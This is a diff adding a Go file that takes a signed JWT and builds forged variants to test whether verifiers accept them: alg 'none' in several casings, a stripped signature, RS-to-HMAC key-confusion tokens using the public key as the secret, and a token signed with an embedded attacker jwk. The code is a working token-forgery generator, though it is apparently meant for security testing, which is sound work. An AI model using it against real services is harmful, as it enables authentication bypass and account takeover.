@@ -0,0 +1,218 @@
+package main
+
+import (
+	"crypto"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"maps"
+	"strings"
+
+	"github.com/go-jose/go-jose/v4"
+	"github.com/golang-jwt/jwt/v5"
+)
+
+// ErrInvalidPublicKey is returned for a public key fixtures cannot use.
+var ErrInvalidPublicKey = errors.New("invalid public key")
+
+// noneCasings are the spellings of alg "none" tried against verifiers that
+// only reject the lower case one.
+var noneCasings = []string{"none", "None", "NONE", "nOnE"}
+
+// AttackFixture is a token exercising a classic verifier bug. A verifier
+// that accepts any of them is vulnerable.
+type AttackFixture struct {
+	// Label names the variant, e.g. "alg_none/None".
+	Label       string `json:"label"`
+	Description string `json:"description"`
+	Token       string `json:"token"`
+}
+
+// GenerateAttackerKey generates the key signing the embedded jwk fixture.
+// RSA key generation is slow, callers generate it once and reuse it.
+func GenerateAttackerKey() (*rsa.PrivateKey, error) {
+	return rsa.GenerateKey(rand.Reader, 2048)
+}
+
+// GenerateAttackFixtures derives attack variants from a legitimately signed
+// token, keeping its claims. The algorithm confusion variants need the
+// token's public key, given as PEM, a JWK or a JWK Set, and are left out without one.
+// The embedded jwk variant is signed with the attacker key.
+func GenerateAttackFixtures(token, publicKey string, attackerKey *rsa.PrivateKey) ([]AttackFixture, error) {
+	token = strings.TrimSpace(token)
+	publicKey = strings.TrimSpace(publicKey)
+
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return nil, fmt.Errorf("expected a signed token with 3 parts, got %d", len(parts))
+	}
+
+	var header map[string]any
+	rawHeader, err := base64.RawURLEncoding.DecodeString(parts[0])
+	if err == nil {
+		err = json.Unmarshal(rawHeader, &header)
+	}
+	if err != nil {
+		return nil, fmt.Errorf("invalid header: %w", err)
+	}
+	alg, _ := header["alg"].(string)
+	payload := parts[1]
+
+	var fixtures []AttackFixture
+	add := func(label, description, token string) {
+		fixtures = append(fixtures, AttackFixture{Label: label, Description: description, Token: token})
+	}
+
+	for _, none := range noneCasings {
+		unsigned, err := fixtureToken(header, map[string]any{"alg": none}, payload, nil, nil)
+		if err != nil {
+			return nil, err
+		}
+		add("alg_none/"+none, fmt.Sprintf("alg %q and no signature", none), unsigned)
+	}
+
+	add("signature_stripped", "original header with the signature removed", parts[0]+"."+payload+".")
+
+	if publicKey != "" {
+		confusion, err := keyConfusionFixtures(header, payload, alg, publicKey)
+		if err != nil {
+			return nil, err
+		}
+		fixtures = append(fixtures, confusion...)
+	}
+
+	jwk := jose.JSONWebKey{Key: &attackerKey.PublicKey, Algorithm: jwt.SigningMethodRS256.Alg(), Use: "sig"}
+	thumbprint, err := jwk.Thumbprint(crypto.SHA256)
+	if err != nil {
+		return nil, err
+	}
+	jwk.KeyID = base64.RawURLEncoding.EncodeToString(thumbprint)
+
+	embedded, err := fixtureToken(header, map[string]any{"alg": jwk.Algorithm, "kid": jwk.KeyID, "jwk": jwk}, payload, jwt.SigningMethodRS256, attackerKey)
+	if err != nil {
+		return nil, err
+	}
+	add("embedded_jwk", "RS256 signed with an attacker key embedded in the jwk header", embedded)
+
+	return fixtures, nil
+}
+
+// keyConfusionFixtures signs the token with HMAC, using the public key as
+// the secret, as verifiers picking the algorithm from the header do. The key
+// is tried in the spellings a verifier is likely to hold it in.
+func keyConfusionFixtures(header map[string]any, payload, alg, publicKey string) ([]AttackFixture, error) {
+	var key any
+	if IsJWKInput(publicKey) {
+		jwk, err := fixtureJWK(header, publicKey)
+		if err != nil {
+			return nil, err
+		}
+		key = jwkVerificationKey(jwk)
+	} else {
+		var err error
+		if key, err = ParseVerificationKeyFromPEM([]byte(publicKey)); err != nil {
+			return nil, fmt.Errorf("%w: %w", ErrInvalidPublicKey, err)
+		}
+	}
+
+	der, err := x509.MarshalPKIXPublicKey(key)
+	if err != nil {
+		return nil, fmt.Errorf("%w: %w", ErrInvalidPublicKey, err)
+	}
+	pemKey := string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
+
+	// RS384 confuses into HS384 and so on, anything else into HS256.
+	method := jwt.SigningMethodHS256
+	switch {
+	case strings.HasSuffix(alg, "384"):
+		method = jwt.SigningMethodHS384
+	case strings.HasSuffix(alg, "512"):
+		method = jwt.SigningMethodHS512
+	}
+
+	type confusionSecret struct{ label, description, secret string }
+	secrets := []confusionSecret{
+		{"key_confusion", "public key PEM", pemKey},
+		{"key_confusion/no_newline", "public key PEM without its final newline", strings.TrimSuffix(pemKey, "\n")},
+	}
+	// Certificates and PKCS#1 keys are also tried as they were given.
+	if entered := publicKey + "\n"; entered != pemKey && !IsJWKInput(publicKey) {
+		secrets = append(secrets,
+			confusionSecret{"key_confusion/as_given", "public key exactly as given", entered},
+			confusionSecret{"key_confusion/as_given_no_newline", "public key as given without its final newline", publicKey},
+		)
+	}
+
+	fixtures := make([]AttackFixture, 0, len(secrets))
+	for _, s := range secrets {
+		signed, err := fixtureToken(header, map[string]any{"alg": method.Alg()}, payload, method, []byte(s.secret))
+		if err != nil {
+			return nil, err
+		}
+		fixtures = append(fixtures, AttackFixture{
+			Label:       s.label,
+			Description: fmt.Sprintf("%s signed with the %s as the HMAC secret", method.Alg(), s.description),
+			Token:       signed,
+		})
+	}
+
+	return fixtures, nil
+}
+
+// fixtureJWK picks the key of a JWK or JWK Set the token was signed with,
+// the one matching its kid or the only one in the set.
+func fixtureJWK(header map[string]any, publicKey string) (jose.JSONWebKey, error) {
+	set, err := ParseJWKSet([]byte(publicKey))
+	if err != nil {
+		return jose.JSONWebKey{}, fmt.Errorf("%w: %w", ErrInvalidPublicKey, err)
+	}
+
+	kid, _ := header["kid"].(string)
+	if matching := set.Key(kid); kid != "" && len(matching) > 0 {
+		return matching[0], nil
+	}
+	if len(set.Keys) == 1 {
+		return set.Keys[0], nil
+	}
+	if kid == "" {
+		return jose.JSONWebKey{}, fmt.Errorf("%w: the token has no kid to pick one of %d keys", ErrInvalidPublicKey, len(set.Keys))
+	}
+	return jose.JSONWebKey{}, fmt.Errorf("%w: no key with kid %q", ErrInvalidPublicKey, kid)
+}
+
+// fixtureToken rebuilds the token with header fields overridden, signing it
+// with the method and key, or leaving the signature empty without a method.
+func fixtureToken(header, overrides map[string]any, payload string, method jwt.SigningMethod, key any) (string, error) {
+	fields := maps.Clone(header)
+	maps.Copy(fields, overrides)
+
+	raw, err := json.Marshal(fields)
+	if err != nil {
+		return "", err
+	}
+	signingString := base64.RawURLEncoding.EncodeToString(raw) + "." + payload
+
+	if method == nil {
+		return signingString + ".", nil
+	}
+
+	signature, err := method.Sign(signingString, key)
+	if err != nil {
+		return "", err
+	}
+	return signingString + "." + base64.RawURLEncoding.EncodeToString(signature), nil
+}
+
+// FormatAttackFixtures lists fixtures as label and token, one per line.
+func FormatAttackFixtures(fixtures []AttackFixture) string {
+	lines := make([]string, 0, len(fixtures))
+	for _, f := range fixtures {
+		lines = append(lines, f.Label+"\t"+f.Token)
+	}
+	return strings.Join(lines, "\n")
+}